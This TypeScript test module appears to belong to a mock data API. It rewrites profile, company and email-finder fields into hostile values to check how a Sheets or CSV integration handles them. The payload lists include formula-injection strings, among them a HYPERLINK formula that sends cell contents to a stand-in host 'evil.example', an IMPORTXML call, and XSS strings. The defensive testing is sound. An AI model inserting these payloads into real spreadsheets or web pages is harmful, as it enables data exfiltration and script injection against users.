/**
 * The hostile-text control (`hostileText: true`): every answer's display text (names, titles,
 * companies, locations, dates as text, descriptions, post texts, the email finder's addresses and
 * row errors; error details, by hostileDetail) is replaced by
 * text that Sheets would read as something else or that a page would run: formula starters in
 * every form Sheets or a CSV reader still takes as a formula (a leading space, tab, new line,
 * carriage return, the full-width signs), text Sheets turns into a number, date, boolean or error,
 * a leading apostrophe, and HTML. The data set's own 1% of hostile values exercises the same paths
 * at random; this control makes every landing spot meet them in one run (test/runtime/hostile-*).
 *
 * Identifiers, URLs, numbers and booleans are left alone, so lookups, dedup by profile URL
 * and paging still work. The choice is a pure function of the original text, so the same record
 * answers the same hostile text every time (a refresh finds nothing changed).
 */

type Json = null | boolean | number | string | Json[] | { [key: string]: Json };

/** Prefixes kept in front of the original text: names stay distinct, and still start a formula. */
export const HOSTILE_PREFIXES = [
  "=",
  "+",
  "-",
  "@",
  " =",
  "\t=",
  "\n=",
  "\r-",
  "＝",
  "＋",
  "－",
  "＠",
  "'",
  '=HYPERLINK("http://evil.example/?x="&A1,"Click me")&',
] as const;

/** Whole values Sheets converts, or a page would run; they replace the original text. */
export const HOSTILE_VALUES = [
  "Sep-2023",
  "1/2",
  "00123",
  "1e5",
  "TRUE",
  "1-10",
  "50%",
  "#N/A",
  "1 1/2",
  '=IMPORTXML("http://evil.example","//a")',
  "<img src=x onerror=alert(1)>",
  "javascript:alert(1)",
  "Zoë Łukasiewicz-Ñúñez",
] as const;

/** Answer fields whose text is shown to people (spec's names; emails' `result`/`source` too). */
const TEXT_FIELDS = new Set([
  "name",
  "raw_name",
  "tagline",
  "description",
  "industry",
  "location",
  "hq_city",
  "hq_state",
  "hq_country",
  "headcount_range",
  "first_name",
  "last_name",
  "full_name",
  "unformatted_full_name",
  "headline",
  "raw_headline",
  "summary",
  "location_city",
  "location_state",
  "location_country",
  "job_title",
  "raw_job_title",
  "job_description",
  "job_started_on",
  "job_ended_on",
  "job_location",
  "company_name",
  "raw_company_name",
  "company_description",
  "company_headcount_range",
  "company_industry",
  "company_location",
  "company_city",
  "company_country",
  "network_lead_persona",
  "text",
  "title",
  // Email finder answers (PRODUCTION.md A16): the address and a row's error message.
  "valid_email",
  "error",
]);

/** Fields whose value must stay unique to its record: only a prefix is added. */
const NAME_FIELDS = new Set([
  "name",
  "full_name",
  "unformatted_full_name",
  "first_name",
  "last_name",
  "valid_email",
  "error",
]);

function hash(text: string): number {
  let h = 2166136261;
  for (let i = 0; i < text.length; i++) h = Math.imul(h ^ text.charCodeAt(i), 16777619);
  return h >>> 0;
}

/** The hostile text standing for `text` in field `field` (same input, same answer). */
export function hostileText(field: string, text: string): string {
  if (text === "") return text;
  const h = hash(`${field}\u0000${text}`);
  const all = HOSTILE_PREFIXES.length + HOSTILE_VALUES.length;
  const pick = NAME_FIELDS.has(field) ? h % HOSTILE_PREFIXES.length : h % all;
  return pick < HOSTILE_PREFIXES.length
    ? `${HOSTILE_PREFIXES[pick]}${text}`
    : HOSTILE_VALUES[pick - HOSTILE_PREFIXES.length]!;
}

/** An answer body with every display text field made hostile, at any depth. */
export function hostileAnswer(body: unknown, field = ""): unknown {
  if (Array.isArray(body)) return body.map((item) => hostileAnswer(item, field));
  if (typeof body === "string") return TEXT_FIELDS.has(field) ? hostileText(field, body) : body;
  if (body === null || typeof body !== "object") return body;
  return Object.fromEntries(
    Object.entries(body as Record<string, Json>).map(([key, value]) => [key, hostileAnswer(value, key)]),
  );
}

/**
 * An error's detail as a hostile API might word it: a formula in front of the message. The A3
 * "Bad url" body keeps its exact text, since that text is what says "no one matches" (free).
 */
export function hostileDetail(detail: string): string {
  return /^\s*bad url\s*\.?\s*$/i.test(detail) ? detail : `=HYPERLINK("http://evil.example","x")&" ${detail}`;
}
